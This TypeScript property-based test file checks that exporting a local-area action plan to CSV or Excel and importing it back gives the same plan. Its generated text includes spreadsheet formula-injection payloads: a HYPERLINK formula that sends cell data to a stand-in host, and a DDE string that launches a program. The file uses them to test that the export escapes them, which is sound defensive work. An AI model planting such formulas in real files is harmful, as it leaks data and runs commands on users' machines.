import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  compareReferences,
  lastDayOfMonth,
  makeAction,
  makeFocusArea,
  makePlan,
  makePriority,
  RATING_SCALES,
  resolveScale,
  type Action,
  type DatePrecision,
  type FocusArea,
  type IsoDate,
  type Priority,
  type RatingScaleId,
} from '../../../src/domain';
import { importPlan, type ImportPlanDraft } from '../../../src/domain/import';
import { exportRegister, type ActionRegister } from '../../../src/plan/import/export-register';
import { readTables } from '../../../src/plan/import/read-tables';
import { LANCS, LEICS } from './seed-rows';

/**
 * Export then import is the identity: a plan written as an action register (xlsx or
 * CSV), read back and imported, gives the areas, focus areas and actions it was
 * made of, with no errors and nothing to check. Texts are as the app keeps them
 * (trimmed, no trailing spaces on a line, at most one blank line in a row): what a
 * workbook cannot hold is the export's to drop (see cellSafeText), not this test's.
 */

/** Words as plans write them, and ones a spreadsheet or a reader could take for something else. */
const WORD = fc.constantFrom(
  'Co-produce',
  'the',
  'Joint',
  'Commissioning',
  'Strategy',
  'EHC',
  'plans',
  '0-25',
  '2021/22',
  '50%',
  '£5,000',
  '“quoted”',
  '"quoted"',
  "parents'",
  'a,b;c|d',
  'tab\there',
  'café',
  'résumé',
  '–',
  '—',
  '😀',
  '_x000D_',
  '<b>bold</b>',
  '&amp;',
  'Dec 2019',
  '31/03/2021',
  '1.2.3',
  'B',
  LEICS.action111,
  LANCS.action1b,
);
/** Starts a spreadsheet would run as a formula (escaped by the export), and quotes that are only text. */
const FORMULA_START = fc.constantFrom(
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '-1',
  '-',
  '+44 116 305 0000',
  '@SUM(1+1)',
  '=',
  "'=already quoted",
  "''+twice",
  "'quoted' word",
);
const BETWEEN = fc.constantFrom(' ', ' ', ' ', '\n', '\n\n', ', ');

/** A text of words, perhaps starting like a formula, over one or more lines, as long as its column keeps. */
function text(maxWords: number, maxLength: number) {
  return fc
    .tuple(
      fc.option(FORMULA_START, { freq: 3 }),
      fc.array(fc.tuple(WORD, BETWEEN), { minLength: 1, maxLength: maxWords }),
    )
    .map(([start, words]) => {
      let written = start === null ? '' : `${start} `;
      words.forEach(([word, between], i) => {
        const next = `${written}${i === 0 ? '' : between}${word}`;
        if (next.length <= maxLength) written = next;
      });
      return written.trim();
    });
}
/** A text as long as its column keeps, or nearly: the action's 2,000 characters, the progress update's 8,000. */
const longText = (maxLength: number) =>
  fc
    .tuple(FORMULA_START, fc.integer({ min: maxLength - 50, max: maxLength }))
    .map(([start, length]) =>
      `${start} ${`${LEICS.action113}\n${LEICS.kpisHow} `.repeat(Math.ceil(length / 200))}`
        .slice(0, length)
        .trim(),
    );
const field = (maxWords: number, maxLength: number) =>
  fc.oneof(
    { weight: 3, arbitrary: fc.constant('') },
    { weight: 8, arbitrary: text(maxWords, maxLength) },
    { weight: 1, arbitrary: longText(maxLength) },
  );

/**
 * A title as the export writes it after a number ("1. Title", "1.2 Title"): perhaps
 * starting like a formula or with a dash or a colon ("1.2 - x" would read as "1.2 –"
 * and "x"), perhaps on two lines. Not " 2. Title" after area 1's number: the import
 * reads that as two areas run together in one cell, as Word documents write them.
 */
const TITLE = fc
  .tuple(
    fc.option(fc.constantFrom('- ', '– ', ': ', '-1 ', '=', '+', '@', "'=", "'"), { freq: 4 }),
    fc.array(
      fc.tuple(
        fc.constantFrom(
          'Joint',
          'Commissioning',
          'Strategy',
          'Quality',
          'of',
          'EHC',
          'plans',
          'and',
          'Local',
          'Offer',
          'transitions',
          'to',
          'adulthood',
          'co-production',
          '0-25',
          '“Preparing”',
          'SEND',
          '(JSNA)',
          'café',
          '=x',
          '2021/22',
        ),
        fc.constantFrom(' ', ' ', ' ', '\n', ' – '),
      ),
      { minLength: 1, maxLength: 8 },
    ),
  )
  .map(([start, words]) => {
    const body = words.map(([word, between], i) => (i === 0 ? word : `${between}${word}`)).join('');
    return `${start ?? ''}${body}`;
  });

/** People as their names are written, each a lead on its own, one of them formula-like. */
const LEAD = fc.constantFrom(
  'Jane Moore',
  'P Sumner',
  'Dr Tom Common',
  "Siobhan O'Neill",
  'Hannah Whitfield',
  'Jane Moore, Director of Children and Family Services',
  '=Priya Shah',
);

type Due = { date: IsoDate; precision: DatePrecision } | null;
const DUE: fc.Arbitrary<Due> = fc.oneof(
  fc.constant(null),
  fc
    .date({ min: new Date('1990-01-01'), max: new Date('2100-12-31'), noInvalidDate: true })
    .map((d) => ({ date: d.toISOString().slice(0, 10), precision: 'day' as const })),
  fc
    .tuple(fc.integer({ min: 1990, max: 2100 }), fc.integer({ min: 1, max: 12 }))
    .map(([year, month]) => ({ date: lastDayOfMonth(year, month), precision: 'month' as const })),
);

function actionFields(ratings: readonly string[]) {
  return fc.record({
    text: fc.oneof({ weight: 9, arbitrary: text(12, 2000) }, { weight: 1, arbitrary: longText(2000) }),
    successMeasures: field(10, 4000),
    leads: fc.uniqueArray(LEAD, { maxLength: 3 }),
    /** One lead as a person from the directory, or the leads as the imported plan wrote them. */
    asPerson: fc.boolean(),
    joinedWith: fc.constantFrom('\n', '; '),
    governance: field(4, 255),
    due: DUE,
    rating: fc.constantFrom(...ratings),
    progress: field(16, 8000),
  });
}
type ActionFields = ReturnType<typeof actionFields> extends fc.Arbitrary<infer T> ? T : never;

/** Numbers with gaps, as plans have them (1, 2, 5, 10: 1.10 sorts after 1.9). */
const numbered = <T>(item: fc.Arbitrary<T>, max: number, maxLength: number) =>
  fc.uniqueArray(fc.tuple(fc.integer({ min: 1, max }), item), {
    minLength: 1,
    maxLength,
    selector: ([n]) => n,
  });

interface GeneratedPlan {
  register: ActionRegister;
  /** The leads each action was given, by reference. */
  leads: Map<string, string[]>;
}

const GENERATED_PLAN: fc.Arbitrary<GeneratedPlan> = fc
  .constantFrom<RatingScaleId>('bragp', 'ralgc')
  .chain((scaleId) => {
    const keys = RATING_SCALES[scaleId].ratings.map((r) => r.key);
    return fc.record({
      scaleId: fc.constant(scaleId),
      columnOrder: fc.option(fc.shuffledSubarray(keys, { minLength: keys.length })),
      priorities: numbered(
        fc.record({
          title: TITLE,
          focusAreas: numbered(
            fc.record({ title: TITLE, actions: numbered(actionFields(keys), 12, 3) }),
            12,
            3,
          ),
        }),
        20,
        3,
      ),
    });
  })
  .map(({ scaleId, columnOrder, priorities }) => {
    const plan = makePlan({
      id: 'plan',
      title: 'Generated WSoA',
      localArea: 'Leicestershire',
      scaleId,
      columnOrder,
    });
    const ids = { planId: plan.id };
    const made = { priorities: [] as Priority[], focusAreas: [] as FocusArea[], actions: [] as Action[] };
    const leads = new Map<string, string[]>();
    const addAction = (priorityId: string, focusAreaId: string, reference: string, fields: ActionFields) => {
      const [first] = fields.leads;
      const asPerson = fields.asPerson && first !== undefined && fields.leads.length === 1;
      const action: Action = makeAction(
        {
          ...ids,
          id: `a${reference}`,
          priorityId,
          focusAreaId,
          reference,
          text: fields.text,
          successMeasures: fields.successMeasures,
          lead: asPerson
            ? {
                entraId: `id-${reference}`,
                upn: `lead${reference}@leics.example`,
                displayName: first,
                agency: 'LCC',
              }
            : null,
          leadAsWritten: asPerson ? '' : fields.leads.join(fields.joinedWith),
          governanceForum: fields.governance,
          dueDate: fields.due?.date ?? null,
          dueDatePrecision: fields.due?.precision ?? 'day',
          status: fields.rating,
          progressNarrative: fields.progress,
        },
        plan,
      );
      leads.set(reference, fields.leads);
      return action;
    };
    for (const [number, priority] of priorities) {
      const area = makePriority({ ...ids, id: `p${number}`, number, title: priority.title });
      made.priorities.push(area);
      for (const [x, focus] of priority.focusAreas) {
        const reference = `${number}.${x}`;
        const focusArea = makeFocusArea({
          ...ids,
          priorityId: area.id,
          id: `f${reference}`,
          reference,
          title: focus.title,
        });
        made.focusAreas.push(focusArea);
        for (const [y, fields] of focus.actions)
          made.actions.push(addAction(area.id, focusArea.id, `${reference}.${y}`, fields));
      }
    }
    return { register: { plan, ...made }, leads };
  });

const byReference = <T extends { reference: string }>(items: readonly T[]) =>
  [...items].sort((a, b) => compareReferences(a.reference, b.reference));

/** What the import should give for the plan: every area, focus area and action, in the register's order. */
function expected({ register, leads }: GeneratedPlan) {
  const priorityNumber = new Map(register.priorities.map((p) => [p.id, p.number]));
  return {
    areas: [...register.priorities]
      .sort((a, b) => a.number - b.number)
      .map((p) => ({ number: p.number, title: p.title })),
    focusAreas: byReference(register.focusAreas).map((f) => ({
      reference: f.reference,
      title: f.title,
      areaNumber: priorityNumber.get(f.priorityId),
    })),
    actions: byReference(register.actions).map((a) => ({
      reference: a.reference,
      areaNumber: priorityNumber.get(a.priorityId),
      focusAreaReference: a.reference.split('.').slice(0, 2).join('.'),
      text: a.text,
      successMeasures: a.successMeasures,
      leads: leads.get(a.reference),
      governance: a.governanceForum,
      due: { date: a.dueDate, precision: a.dueDatePrecision },
      rating: a.status,
      progress: a.progressNarrative,
    })),
    problems: [],
  };
}

function imported(draft: ImportPlanDraft) {
  return {
    areas: draft.areas.map((a) => ({ number: a.number, title: a.title })),
    focusAreas: draft.focusAreas.map((f) => ({
      reference: f.reference,
      title: f.title,
      areaNumber: f.areaNumber,
    })),
    actions: draft.actions.map((a) => ({
      reference: a.reference,
      areaNumber: a.areaNumber,
      focusAreaReference: a.focusAreaReference,
      text: a.text,
      successMeasures: a.successMeasures,
      leads: a.leads,
      governance: a.governance,
      due: a.due,
      rating: a.rating,
      progress: a.progress,
    })),
    problems: draft.problems.map((p) => `${p.severity} ${p.code} at row ${p.place.row}: ${p.message}`),
  };
}

async function roundTrip(generated: GeneratedPlan, format: 'xlsx' | 'csv') {
  const { plan } = generated.register;
  const file = await exportRegister(generated.register, format);
  const tables = await readTables(file);
  return importPlan(tables, { scale: resolveScale(plan.scaleId, plan.columnOrder) });
}

describe('exporting an action register and importing it again gives back the plan', () => {
  it('through a CSV file', async () => {
    await fc.assert(
      fc.asyncProperty(GENERATED_PLAN, async (generated) => {
        expect(imported(await roundTrip(generated, 'csv'))).toEqual(expected(generated));
      }),
      { numRuns: 100 },
    );
  });

  it('through an Excel workbook', async () => {
    await fc.assert(
      fc.asyncProperty(GENERATED_PLAN, async (generated) => {
        expect(imported(await roundTrip(generated, 'xlsx'))).toEqual(expected(generated));
      }),
      { numRuns: 50 },
    );
  });
});
